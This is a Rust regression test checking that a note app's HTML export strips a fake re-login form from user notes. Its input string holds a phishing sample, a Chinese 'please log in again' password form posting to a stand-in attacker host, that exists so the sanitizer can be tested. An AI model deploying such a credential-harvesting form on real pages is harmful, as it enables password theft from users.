//! A note written as a fake login form must not become one in the HTML export
//! (issue 14: `<form>`, `<input type=password>`, `<button>` survived in the app).

use pizhu_export::html::markdown_to_safe_html;

#[test]
fn notes_cannot_draw_forms_in_the_html_export() {
    let note = "请重新登录：\n\n<form action=\"http://attacker.invalid/steal\" method=\"post\">\
                <label>密码</label><input type=\"password\" name=\"pw\">\
                <textarea name=\"t\"></textarea><select><option>一</option></select>\
                <button formaction=\"http://attacker.invalid/\">登录</button></form>\n\n**正文**保留";
    let html = markdown_to_safe_html(note).to_ascii_lowercase();
    for tag in [
        "<form",
        "<input",
        "<button",
        "<textarea",
        "<select",
        "<option",
    ] {
        assert!(!html.contains(tag), "{tag} survived: {html}");
    }
    assert!(!html.contains("attacker.invalid"), "{html}");
    assert!(html.contains("<strong>正文</strong>"), "{html}");
}
